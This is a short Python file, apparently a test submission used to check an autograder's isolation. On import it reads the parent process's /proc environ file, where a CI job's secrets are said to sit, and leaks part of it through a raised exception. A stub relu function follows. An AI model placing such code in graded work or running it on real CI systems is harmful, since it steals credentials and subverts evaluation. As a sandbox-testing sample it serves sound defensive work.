"""Shows the environment of the process above it, where secrets of a CI job are."""

import posix


def attack():
    text = posix.read(posix.open(f"/proc/{posix.getppid()}/environ", posix.O_RDONLY), 100_000)
    start = text.find(b"VGRADE_ATTACKED")
    raise SystemError(f"got through: {text[start : start + 200]}")


attack()


def relu(z):
    return None
